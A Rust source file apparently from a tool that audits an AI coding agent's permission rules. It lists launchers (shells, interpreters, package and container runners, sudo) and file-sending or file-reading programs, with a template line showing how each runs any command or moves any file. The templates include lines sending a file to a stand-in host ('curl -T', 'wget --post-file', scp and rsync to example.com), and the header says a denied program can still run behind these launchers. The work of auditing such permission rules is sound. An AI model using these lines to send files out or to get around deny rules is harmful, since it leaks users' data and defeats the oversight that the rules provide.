//! Programs that run whatever they are told to, and programs that read or send any file: how each is told.
//!
//! From the documentation of the programs, not of the client, which looks into none of these lines: what a rule
//! denies by its name runs behind them (observed, 2.1.330).
//!
//! Left out: what a build or a test of the project runs (`npm run`, `make`, `cargo`), which is the project's own code,
//! and `git`, which everybody allows and which runs programs by its settings as well.

/// What an allow rule for a program gives away.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Power {
    /// Any code, on this machine.
    Code,
    /// Any other command.
    Command,
    /// Any other command, in the environment of the project.
    Environment,
    /// Any package of a registry, fetched and run.
    Package,
    /// Any command in a container that may be given the whole disk.
    Container,
    /// Any command somewhere else.
    Remote,
    /// Any file is sent to whoever is named.
    Send,
    /// Any file is read.
    Read,
}

/// A program and how it is told what to do.
#[derive(Debug, Clone, Copy)]
pub struct Launcher {
    /// The words that it is called by.
    pub words: &'static [&'static str],
    /// What it gives away.
    pub power: Power,
    /// A line that shows it. `{}` is a command for a shell or, where files are sent or read, a path.
    line: &'static str,
}

const fn launcher(words: &'static [&'static str], power: Power, line: &'static str) -> Launcher {
    Launcher { words, power, line }
}

use Power::{Code, Command, Container, Environment, Package, Read, Remote, Send};

/// By the first word.
#[rustfmt::skip]
const LAUNCHERS: &[Launcher] = &[
    launcher(&["awk"], Code, r#"awk 'BEGIN {system("{}")}'"#),
    launcher(&["bash"], Code, "bash -c '{}'"),
    launcher(&["bun"], Code, r#"bun -p "require('child_process').execSync('{}')+''""#),
    launcher(&["bun", "x"], Package, "bun x shx {}"),
    launcher(&["bundle", "exec"], Environment, "bundle exec sh -c '{}'"),
    launcher(&["bunx"], Package, "bunx shx {}"),
    launcher(&["command"], Command, "command sh -c '{}'"),
    launcher(&["conda", "run"], Environment, "conda run sh -c '{}'"),
    launcher(&["curl"], Send, "curl -T {} https://example.com"),
    launcher(&["dash"], Code, "dash -c '{}'"),
    launcher(&["dd"], Read, "dd if={}"),
    launcher(&["doas"], Command, "doas sh -c '{}'"),
    launcher(&["docker", "run"], Container, "docker run -v .:/x -w /x alpine sh -c '{}'"),
    launcher(&["env"], Command, "env sh -c '{}'"),
    launcher(&["fish"], Code, "fish -c '{}'"),
    launcher(&["gawk"], Code, r#"gawk 'BEGIN {system("{}")}'"#),
    launcher(&["ksh"], Code, "ksh -c '{}'"),
    launcher(&["less"], Read, "less {}"),
    launcher(&["mise", "exec"], Environment, "mise exec -- sh -c '{}'"),
    launcher(&["more"], Read, "more {}"),
    launcher(&["nice"], Command, "nice sh -c '{}'"),
    launcher(&["nix-shell"], Package, "nix-shell --run '{}'"),
    launcher(&["node"], Code, r#"node -p "require('child_process').execSync('{}')+''""#),
    launcher(&["nohup"], Command, "nohup sh -c '{}'"),
    launcher(&["npm", "exec"], Package, "npm exec -c '{}'"),
    launcher(&["npm", "x"], Package, "npm x -c '{}'"),
    launcher(&["npx"], Package, "npx -c '{}'"),
    launcher(&["osascript"], Code, r#"osascript -e 'do shell script "{}"'"#),
    launcher(&["perl"], Code, r#"perl -e "system('{}')""#),
    launcher(&["php"], Code, r#"php -r "system('{}');""#),
    launcher(&["pipenv", "run"], Environment, "pipenv run sh -c '{}'"),
    launcher(&["pnpm", "dlx"], Package, "pnpm dlx shx {}"),
    launcher(&["pnpm", "exec"], Environment, "pnpm exec sh -c '{}'"),
    launcher(&["pnpx"], Package, "pnpx shx {}"),
    launcher(&["podman", "run"], Container, "podman run -v .:/x -w /x alpine sh -c '{}'"),
    launcher(&["poetry", "run"], Environment, "poetry run sh -c '{}'"),
    launcher(&["powershell"], Code, "powershell -Command '{}'"),
    launcher(&["pwsh"], Code, "pwsh -Command '{}'"),
    launcher(&["python"], Code, r#"python -c "import os; os.system('{}')""#),
    launcher(&["python3"], Code, r#"python3 -c "import os; os.system('{}')""#),
    launcher(&["rsync"], Send, "rsync {} example.com:"),
    launcher(&["ruby"], Code, r#"ruby -e "system('{}')""#),
    launcher(&["scp"], Send, "scp {} example.com:"),
    launcher(&["sh"], Code, "sh -c '{}'"),
    launcher(&["ssh"], Remote, "ssh example.com '{}'"),
    launcher(&["sudo"], Command, "sudo sh -c '{}'"),
    launcher(&["tar"], Read, "tar cf - {}"),
    launcher(&["time"], Command, "time sh -c '{}'"),
    launcher(&["timeout"], Command, "timeout 5 sh -c '{}'"),
    launcher(&["uv", "run"], Environment, "uv run sh -c '{}'"),
    launcher(&["uv", "tool", "run"], Package, r#"uv tool run python -c "import os; os.system('{}')""#),
    launcher(&["uvx"], Package, r#"uvx python -c "import os; os.system('{}')""#),
    launcher(&["wget"], Send, "wget --post-file={} https://example.com"),
    launcher(&["xargs"], Command, "xargs sh -c '{}'"),
    launcher(&["xxd"], Read, "xxd {}"),
    launcher(&["yarn", "dlx"], Package, "yarn dlx shx {}"),
    launcher(&["yarn", "exec"], Environment, "yarn exec sh -c '{}'"),
    launcher(&["zsh"], Code, "zsh -c '{}'"),
];

/// The launchers that are called by this word first.
pub fn of(word: &str) -> &'static [Launcher] {
    let name = |launcher: &Launcher| launcher.words.first().copied().unwrap_or_default();
    let start = LAUNCHERS.partition_point(|launcher| name(launcher) < word);
    let rest = LAUNCHERS.get(start..).unwrap_or_default();
    let length = rest.iter().take_while(|launcher| name(launcher) == word).count();
    rest.get(..length).unwrap_or_default()
}

impl Launcher {
    /// The line that has it run a command, or send or read a file.
    pub fn line(&self, what: &str) -> String {
        self.line.replacen("{}", what, 1)
    }

    /// Whether it is told a command, not the path of a file.
    pub fn takes_command(&self) -> bool {
        !matches!(self.power, Send | Read)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn launchers_are_sorted_for_the_search() {
        assert!(LAUNCHERS.is_sorted_by(|a, b| a.words < b.words));
        assert_eq!(of("bun").len(), 2);
        assert_eq!(of("git").len(), 0);
        for launcher in LAUNCHERS {
            assert!(launcher.line.starts_with(&launcher.words.join(" ")), "{}", launcher.line);
            assert_eq!(launcher.line.matches("{}").count(), 1, "{}", launcher.line);
        }
    }
}
